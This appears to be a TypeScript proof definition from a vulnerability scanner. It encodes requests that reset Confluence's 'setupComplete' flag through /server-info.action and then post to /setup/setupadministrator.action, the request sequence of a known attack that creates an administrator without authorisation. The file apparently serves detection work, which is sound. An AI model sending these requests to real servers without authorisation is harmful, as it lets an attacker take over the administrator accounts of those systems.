import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'confluence-admin-setup',
    [
      post('/setup/setupadministrator.action', 'username=x'),
      get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
    ],
    get('/server-info.action'),
  ),
]
